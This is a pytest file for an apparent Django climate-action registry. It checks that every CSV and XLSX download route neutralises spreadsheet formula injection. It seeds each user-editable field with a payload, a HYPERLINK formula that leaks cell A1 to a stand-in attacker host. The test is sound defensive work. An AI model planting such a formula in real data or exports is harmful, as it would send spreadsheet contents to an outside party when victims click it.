"""Spreadsheet formula injection (issue 18): every CSV and XLSX download route, fetched with a stored
``=HYPERLINK(...)`` in every text field a user can type (jurisdiction name, data source, line source and
explanation, record source and notes, target / commitment / action titles), must hold no formula cell: no
XLSX cell of data type ``f``, no CSV cell that starts with ``= + - @``, a tab or a carriage return unless it
is a plain number (the one writer, ``localaction.core.io``, prefixes such text with ``'``)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from localaction.core import frameworks
from localaction.registry import services
from localaction.registry.base.access import SYSTEM
from localaction.registry.frameworks import services as reports
from tests.factories import World, complete_lines, make_world

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _publish(world: World, obj: Any, submitter: Any) -> Any:
    obj = services.submit(submitter, obj, revision=obj.revision)
    obj = services.validate(world.users["reviewer"], obj, revision=obj.revision)
    return services.publish(world.users["admin"], obj, revision=obj.revision)


@dataclass
class Data:
    world: World
    jur: Any
    inventory: Any
    target: Any
    report: Any
    year: int


@pytest.fixture
def data(db: None, settings: Any, tmp_path: Any) -> Data:
    settings.MEDIA_ROOT = str(tmp_path)
    settings.LOCALACTION_OPENDATA_DIR = str(tmp_path / "opendata")
    world = make_world()
    jur = services.create_jurisdiction(
        SYSTEM, name=EVIL, name_ascii=EVIL, slug="evil-town", kind="city", country="BR", region=EVIL
    )
    services.set_stat(SYSTEM, jur, year=2022, population=500_000, area_km2=100.0, source=EVIL)
    who = services.create_user(SYSTEM, "evil-approver")
    services.grant_role(SYSTEM, who, jur, "approver")
    inv = services.create_inventory(who, jur, year=2022, population=500_000, data_source=EVIL)
    lines = [{**line, "source": EVIL} for line in complete_lines()]
    inv = services.replace_contents(who, inv, revision=inv.revision, lines=lines)
    inv = services.put_record(
        who, inv,
        {"record_id": "r1", "gpc_ref": "IV.1", "method": "direct_entry", "activity": "CH4", "quantity": 10,
         "unit": "t", "source": EVIL, "notes": EVIL},
        revision=inv.revision,
    ).inventory  # fmt: skip
    inv = _publish(world, inv, who)
    target = services.create_target(
        who, jur, kind="base_year", title=EVIL, base_year=2022, base_emissions_tco2e=1e6, reduction_pct=50,
        target_year=2030, data_source=EVIL,
    )  # fmt: skip
    target = _publish(world, target, who)
    action = services.create_action(
        who, jur, title=EVIL, description=EVIL, action_type="mitigation", gpc_sectors=["I"],
        reduction_tco2e_per_yr=10_000, data_source=EVIL,
    )  # fmt: skip
    _publish(world, action, who)
    commitment = services.create_commitment(
        who, jur, kind="efficiency_gain_10", title=EVIL, unit="kWh", baseline_year=2022, baseline_value=1000
    )
    _publish(world, commitment, who)
    hazard = services.create_hazard(who, jur, hazard_type="Extreme hot temperature", data_source=EVIL)
    _publish(world, hazard, who)
    report = reports.create_report(
        who, jur, framework_id="singapore_index", year=2023,
        answers=dict(frameworks.example_report("singapore_index")["answers"]), data_source=EVIL,
    )  # fmt: skip
    report = _publish(world, report, who)
    return Data(world, jur, inv, target, report, 2022)


# --- reading what came back -------------------------------------------------------------------------------


def _unguarded_csv(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [
        c
        for row in csv.reader(io.StringIO(text))
        for c in row
        if c.startswith(_FORMULA_START) and not _PLAIN_NUMBER.match(c)
    ]


def _formula_cells(body: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(body))
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _fetch(path: str) -> bytes:
    response = Client().get(path)
    assert response.status_code == 200, f"{path}: {response.status_code}"
    body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    return body


def _check_csv(path: str, must_contain: bool = True) -> None:
    body = _fetch(path)
    bad = _unguarded_csv(body)
    assert bad == [], f"{path}: {len(bad)} unguarded formula cell(s), e.g. {bad[0]!r}"
    if must_contain:  # the stored text did reach the file, guarded
        assert "'" + EVIL in body.decode("utf-8-sig").replace('""', '"'), (
            f"{path}: the test text is not in it"
        )


# --- the routes ---------------------------------------------------------------------------------------------

Route = Callable[[Data], None]


def _inventory_csv(d: Data) -> None:
    _check_csv(reverse("web:inventory_download", args=[d.inventory.pk, "csv"]))


def _inventory_xlsx(d: Data) -> None:
    body = _fetch(reverse("web:inventory_download", args=[d.inventory.pk, "xlsx"]))
    assert _formula_cells(body) == []
    texts = [
        c.value
        for ws in openpyxl.load_workbook(io.BytesIO(body)).worksheets
        for r in ws.iter_rows()
        for c in r
    ]
    assert EVIL in texts  # shown as written, as text


def _inventory_exports(d: Data) -> None:
    # the records carry the stored text (source, notes); the CRF table carries explanations only (none here)
    for kind in ("records", "crf"):
        _check_csv(
            reverse("web:inventory_export", args=[d.inventory.pk, kind, "csv"]), must_contain=kind != "crf"
        )
        body = _fetch(reverse("web:inventory_export", args=[d.inventory.pk, kind, "xlsx"]))
        assert _formula_cells(body) == []
        texts = [c.value for ws in openpyxl.load_workbook(io.BytesIO(body)).worksheets for r in ws.iter_rows()
                 for c in r]  # fmt: skip
        assert (EVIL in texts) is (kind == "records"), kind


def _chart_csvs(d: Data) -> None:
    page = Client().get(reverse("web:jurisdiction", args=[d.jur.slug]))
    keys = [c.key for c in page.context["charts"]] if page.context.get("charts") else []
    assert keys, "the jurisdiction page has charts"
    for key in keys:
        _check_csv(reverse("web:chart_csv", args=[d.jur.slug, key]), must_contain=False)


def _compare_csv(d: Data) -> None:
    _check_csv(reverse("web:compare_csv") + f"?j={d.jur.slug}&j=sao-paulo")


def _pathway_csv(d: Data) -> None:
    _check_csv(reverse("targets:pathway_csv", args=[d.target.pk]), must_contain=False)


def _framework_compare_csv(d: Data) -> None:
    _check_csv(reverse("frameworks:compare_csv", args=["singapore_index"]))


def _radar_csv(d: Data) -> None:
    _check_csv(reverse("frameworks:radar_csv", args=[d.report.pk]), must_contain=False)


def _insights_csvs(d: Data) -> None:
    from localaction.faces.web.insights import reports as insight_reports
    from localaction.faces.web.insights.render import items

    for kind, subject in (("registry", "all"), ("jurisdiction", d.jur.slug)):
        for item in items(insight_reports.build(kind, subject, d.year)):
            _check_csv(reverse("insights:report_csv", args=[kind, subject, d.year, item]), must_contain=False)


def _opendata_csvs(d: Data) -> None:
    from localaction.registry.insights import opendata

    _folder, manifest = opendata.ensure_built()
    names = [f["name"] for f in manifest["files"] if f["name"].endswith(".csv")]
    assert names
    for name in names:
        _check_csv(reverse("insights:opendata_file", args=[name]), must_contain=False)


def _api_lists(d: Data) -> None:
    for path in ("jurisdictions", "inventories", "targets", "commitments", "actions", "hazards"):
        _check_csv(f"/api/v1/{path}/?format=csv")


def _api_inventory(d: Data) -> None:
    _check_csv(f"/api/v1/inventories/{d.inventory.pk}/lines?format=csv")
    _check_csv(f"/api/v1/inventories/{d.inventory.pk}/records?format=csv")
    _check_csv(f"/api/v1/inventories/{d.inventory.pk}/exports/records?format=csv")
    _check_csv(f"/api/v1/inventories/{d.inventory.pk}/exports/crf?format=csv", must_contain=False)


ROUTES: dict[str, Route] = {
    "web:inventory_download (csv)": _inventory_csv,
    "web:inventory_download (xlsx)": _inventory_xlsx,
    "web:inventory_export (records, crf: csv, xlsx)": _inventory_exports,
    "web:chart_csv": _chart_csvs,
    "web:compare_csv": _compare_csv,
    "targets:pathway_csv": _pathway_csv,
    "frameworks:compare_csv": _framework_compare_csv,
    "frameworks:radar_csv": _radar_csv,
    "insights:report_csv": _insights_csvs,
    "insights:opendata_file": _opendata_csvs,
    "api ?format=csv lists": _api_lists,
    "api inventory gpc/records csv": _api_inventory,
}


@pytest.mark.parametrize("name", list(ROUTES))
def test_no_formula_reaches_a_download(data: Data, name: str) -> None:
    ROUTES[name](data)


def _download_routes() -> set[str]:
    from django.urls import URLPattern, URLResolver, get_resolver

    found: set[str] = set()

    def walk(patterns: list[Any], prefix: str, ns: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern), p.namespace or ns)
            elif isinstance(p, URLPattern):
                route = prefix + str(p.pattern)
                if (
                    route.endswith(".csv")
                    or "download" in route
                    or "opendata/<" in route
                    or "/export/" in route
                ):
                    found.add(f"{ns}:{p.name}")

    walk(get_resolver().url_patterns, "", "")
    return found


def test_every_csv_or_xlsx_download_route_is_in_the_table() -> None:
    covered = {name.split(" ", 1)[0] for name in ROUTES}
    assert _download_routes() - covered == set(), "add the new download route to ROUTES"
